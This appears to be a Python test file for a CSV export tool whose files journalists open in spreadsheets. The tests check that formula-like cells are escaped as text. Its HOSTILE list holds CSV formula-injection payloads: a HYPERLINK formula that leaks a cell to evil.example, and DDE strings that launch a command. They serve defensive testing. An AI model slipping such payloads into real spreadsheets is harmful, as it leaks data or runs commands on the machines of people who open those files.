"""CSV files journalists open in a spreadsheet: entry text never becomes a formula."""

from __future__ import annotations

import csv
import io

from generator.export.tables import csv_line, join_csv_lines, write_csv
from generator.stats import Table, format_tables

HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A2,"Bấm vào")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1"]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_text_a_spreadsheet_would_evaluate_is_written_as_text():
    rows = [[text, 5, "Mô hình -- bình thường"] for text in HOSTILE]
    written = _cells(write_csv(["tieu_de", "so", "ghi_chu"], rows))
    assert [row[0] for row in written[1:]] == ["'" + text for text in HOSTILE]
    assert all(row[1] == "5" and row[2] == "Mô hình -- bình thường" for row in written[1:])  # numbers and other text as they were
    # the rows kept between builds are the same bytes (export/memo.py joins them)
    joined = join_csv_lines(["tieu_de", "so", "ghi_chu"], [csv_line(row).encode("utf-8") for row in rows])
    assert joined == write_csv(["tieu_de", "so", "ghi_chu"], rows)


def test_dvk_stats_csv_writes_labels_as_text():
    table = Table("su-kien", "Sự kiện", ("Sự kiện", "Số lượng"), ((HOSTILE[0], 3), ("-1 điểm", 2)))
    rows = _cells(format_tables([table], "csv").encode("utf-8"))
    assert rows[1] == ["su-kien", "'" + HOSTILE[0], "Số lượng", "3"]
    assert rows[2][1] == "'-1 điểm"
